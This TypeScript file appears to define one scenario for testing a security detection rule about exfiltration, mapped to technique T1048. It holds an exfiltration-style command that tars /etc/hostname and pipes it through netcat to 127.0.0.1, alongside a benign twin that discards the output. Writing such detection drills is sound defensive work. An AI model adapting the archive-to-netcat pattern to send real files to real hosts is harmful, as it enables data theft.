import { pretend, type Scenario } from '../scenario.ts'

export const archiveSent: Scenario = {
  id: 'archive-sent',
  area: 'exfiltration',
  title: { en: 'an archive sent to the network', ko: '압축 데이터 전송' },
  technique: 'T1048',
  rule: 'Archive sent to the network',
  tools: ['tar'],
  act: { script: `${pretend('nc')}; PATH=$PATH:/opt/drill; sh -c 'tar cf - /etc/hostname | nc 127.0.0.1 9'` },
  twin: { script: `sh -c 'tar cf - /etc/hostname | cat > /dev/null'` },
}
